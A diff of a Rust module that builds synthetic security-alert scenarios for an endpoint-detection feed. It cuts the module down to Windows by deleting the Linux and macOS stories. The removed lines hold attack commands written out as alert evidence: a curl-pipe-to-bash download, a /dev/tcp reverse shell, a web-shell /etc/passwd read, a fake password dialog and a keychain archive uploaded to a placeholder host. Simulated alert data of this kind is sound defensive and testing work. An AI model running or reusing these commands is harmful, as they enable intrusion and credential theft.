@@ -1,15 +1,15 @@
-//! Campaigns on devices: Windows, Linux and macOS.
+//! Campaigns on Windows.
 
 use super::{
-    Account::{Person, Root, System},
-    Ending, Image, Item, Platform, Sensor, Step, Story, dropped, installed, run, windows,
+    Account::{Person, System},
+    Ending, Image, Item, Platform, Sensor, Step, Story, component, dropped, installed, run,
 };
 
 const ADVICE: &str = "Collect artifacts and determine scope\n•\tReview the device timeline for activity shortly before and after the alert, and note related files, addresses and accounts.\n•\tLook for the same artifacts on other devices.\n•\tSubmit files that are not yet detected for deep analysis.\n\nInitiate containment & mitigation\n•\tContact the user to verify intent.\n•\tIsolate the device if the activity is confirmed.\n•\tIf credential theft is suspected, reset the passwords of the accounts concerned.\n•\tBlock the URLs and addresses at the organization's perimeter.";
 /// As some sources send it: the bullets were lost on the way (QUIRKS.md).
 const ADVICE_DAMAGED: &str = "Verify the detection\n\u{FFFD}\tCheck whether the file was expected on this device.\n\u{FFFD}\tUpdate AV signatures and run a full scan.\n\nMitigate\n\u{FFFD}\tRemove the file and the source it came from.";
 
-const EDR: Sensor = Sensor {
+pub(super) const EDR: Sensor = Sensor {
     service: "microsoftDefenderForEndpoint",
     detection: "microsoftDefenderForEndpoint",
     product: "Microsoft Defender for Endpoint",
@@ -30,16 +30,16 @@ const XDR: Sensor = Sensor {
 const CUSTOM_DETECTION: Sensor = Sensor { detection: "customDetection", prefix: "ed", ..XDR };
 
 const EXPLORER: Image = installed("C:\\Windows", "explorer.exe", "Microsoft Corporation", 5_301_120);
-const SERVICES: Image = windows("services.exe", 731_744);
-const SVCHOST: Image = windows("svchost.exe", 55_320);
-const CMD: Image = windows("cmd.exe", 289_792);
-const RUNDLL32: Image = windows("rundll32.exe", 71_680);
-const MSHTA: Image = windows("mshta.exe", 14_848);
-const REG: Image = windows("reg.exe", 77_824);
-const VSSADMIN: Image = windows("vssadmin.exe", 142_336);
-const WBADMIN: Image = windows("wbadmin.exe", 274_432);
-const NET: Image = windows("net1.exe", 183_808);
-const SCHTASKS: Image = windows("schtasks.exe", 235_008);
+const SERVICES: Image = component("services.exe", 731_744);
+const SVCHOST: Image = component("svchost.exe", 55_320);
+const CMD: Image = component("cmd.exe", 289_792);
+const RUNDLL32: Image = component("rundll32.exe", 71_680);
+const MSHTA: Image = component("mshta.exe", 14_848);
+const REG: Image = component("reg.exe", 77_824);
+const VSSADMIN: Image = component("vssadmin.exe", 142_336);
+const WBADMIN: Image = component("wbadmin.exe", 274_432);
+const NET: Image = component("net1.exe", 183_808);
+const SCHTASKS: Image = component("schtasks.exe", 235_008);
 const POWERSHELL: Image = installed(
     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
     "powershell.exe",
@@ -70,18 +70,6 @@ const LOCKER: Image = dropped("C:\\PerfLogs", "lck<n>.exe", 702_464);
 const NOTE: Image = dropped("C:\\Users\\Public\\Desktop", "RESTORE-FILES.txt", 1_892);
 const TROJAN: Image = dropped("C:\\Users\\<account>\\Downloads", "setup_<n>.exe", 2_408_448);
 const TOOLBAR: Image = dropped("C:\\Users\\<account>\\Downloads", "pdf-converter-free_<n>.exe", 3_910_144);
-const BASH: Image = installed("/usr/bin", "bash", "Canonical", 1_396_520);
-const DASH: Image = installed("/usr/bin", "dash", "Canonical", 125_688);
-const CURL: Image = installed("/usr/bin", "curl", "Canonical", 260_328);
-const CRON: Image = installed("/usr/sbin", "cron", "Canonical", 55_944);
-const SSHD: Image = installed("/usr/sbin", "sshd", "Canonical", 921_288);
-const PHP: Image = installed("/usr/sbin", "php-fpm8.1", "Canonical", 5_672_336);
-const MINER: Image = dropped("/tmp/.X11-unix", "kworkerds", 2_979_640);
-const WEB_SHELL: Image = dropped("/var/www/html/uploads", "img_<n>.php", 2_213);
-const ZSH: Image = installed("/bin", "zsh", "Apple Inc.", 1_361_200);
-const OSASCRIPT: Image = installed("/usr/bin", "osascript", "Apple Inc.", 203_168);
-const DMG_APP: Image = dropped("/Volumes/Installer/Installer.app/Contents/MacOS", "Installer", 1_877_504);
-
 pub(super) const STORIES: &[Story] = &[
     Story {
         weight: 9,
@@ -485,160 +473,5 @@ pub(super) const STORIES: &[Story] = &[
                 ),
             ],
         }],
-    },
-    Story {
-        weight: 5,
-        platform: Platform::Linux,
-        spread: 5,
-        ending: Ending::Attack("malware"),
-        steps: &[
-            Step {
-                title: "Suspicious file dropped and launched",
-                description: "A script was fetched with curl and handed to a shell, which started a program from a hidden folder.",
-                severity: "medium",
-                category: "Execution",
-                techniques: &["T1059.004", "T1105"],
-                sensor: &EDR,
-                threat: None,
-                evidence: &[
-                    Item::Device,
-                    run(&CRON, &DASH, Root, "suspicious", "/bin/sh -c curl -fsSL http://<ip>/i.sh | bash"),
-                    run(&DASH, &CURL, Root, "suspicious", "curl -fsSL http://<ip>/i.sh"),
-                    run(&DASH, &BASH, Root, "malicious", "bash"),
-                    Item::Address,
-                    Item::Url("http://<ip>/i.sh"),
-                ],
-            },
-            Step {
-                title: "Possible cryptocurrency miner",
-                description: "A process keeps all processors busy and talks to a mining pool.",
-                severity: "medium",
-                category: "Impact",
-                techniques: &["T1496"],
-                sensor: &EDR,
-                threat: Some(("Trojan:Linux/CoinMiner.K", "CoinMiner")),
-                evidence: &[
-                    Item::Device,
-                    run(
-                        &BASH,
-                        &MINER,
-                        Root,
-                        "malicious",
-                        "/tmp/.X11-unix/kworkerds -o <domain>:3333 -u 44<n>.<host> -k --donate-level=0",
-                    ),
-                    Item::File(&MINER, "malicious"),
-                    Item::Address,
-                ],
-            },
-        ],
-    },
-    Story {
-        weight: 4,
-        platform: Platform::Linux,
-        spread: 2,
-        ending: Ending::Attack("multiStagedAttack"),
-        steps: &[
-            Step {
-                title: "Suspicious process launched by a web server",
-                description: "A web server's worker started a shell. A web shell in the upload folder is the likely cause.",
-                severity: "high",
-                category: "Persistence",
-                techniques: &["T1505.003", "T1190"],
-                sensor: &EDR,
-                threat: None,
-                evidence: &[
-                    Item::Device,
-                    run(&PHP, &DASH, Root, "malicious", "sh -c id; uname -a; cat /etc/passwd"),
-                    Item::File(&WEB_SHELL, "malicious"),
-                    Item::Address,
-                    Item::Url("https://shop.contoso.com/uploads/img_<n>.php?c=id"),
-                ],
-            },
-            Step {
-                title: "Reverse shell from a web server process",
-                description: "A shell's input and output are tied to a network connection to an external host.",
-                severity: "high",
-                category: "CommandAndControl",
-                techniques: &["T1059.004", "T1095"],
-                sensor: &EDR,
-                threat: None,
-                evidence: &[
-                    Item::Device,
-                    run(&DASH, &BASH, Root, "malicious", "bash -c 'bash -i >& /dev/tcp/<ip>/4444 0>&1'"),
-                    Item::Address,
-                ],
-            },
-        ],
-    },
-    Story {
-        weight: 5,
-        platform: Platform::Linux,
-        spread: 4,
-        ending: Ending::Attack("compromisedAccount"),
-        steps: &[Step {
-            title: "SSH brute-force attack with a successful sign-in",
-            description: "Many failed sign-ins over SSH from one address were followed by a successful one.",
-            severity: "medium",
-            category: "CredentialAccess",
-            techniques: &["T1110.001", "T1021.004"],
-            sensor: &EDR,
-            threat: None,
-            evidence: &[
-                Item::Device,
-                Item::User,
-                Item::Address,
-                run(&SSHD, &BASH, Person, "suspicious", "-bash"),
-            ],
-        }],
-    },
-    Story {
-        weight: 4,
-        platform: Platform::MacOs,
-        spread: 2,
-        ending: Ending::Attack("malware"),
-        steps: &[
-            Step {
-                title: "Suspicious AppleScript prompt for a password",
-                description: "An installer from a disk image asked for the user's password with a script of its own.",
-                severity: "medium",
-                category: "CredentialAccess",
-                techniques: &["T1056.002", "T1059.002"],
-                sensor: &EDR,
-                threat: None,
-                evidence: &[
-                    Item::Device,
-                    Item::User,
-                    run(
-                        &DMG_APP,
-                        &OSASCRIPT,
-                        Person,
-                        "malicious",
-                        "osascript -e 'display dialog \"macOS needs your password\" default answer \"\" with hidden answer'",
-                    ),
-                    Item::File(&DMG_APP, "malicious"),
-                ],
-            },
-            Step {
-                title: "Keychain contents were archived and sent out",
-                description: "The login keychain and browser profiles were packed and uploaded to an external host.",
-                severity: "high",
-                category: "Exfiltration",
-                techniques: &["T1555.001", "T1567"],
-                sensor: &EDR,
-                threat: Some(("Trojan:MacOS/Amosine.A", "Amosine")),
-                evidence: &[
-                    Item::Device,
-                    Item::User,
-                    run(
-                        &OSASCRIPT,
-                        &ZSH,
-                        Person,
-                        "malicious",
-                        "zsh -c ditto -c -k ~/Library/Keychains /tmp/o<n>.zip && curl -F f=@/tmp/o<n>.zip http://<ip>/log",
-                    ),
-                    Item::Address,
-                ],
-            },
-        ],
     },
 ];
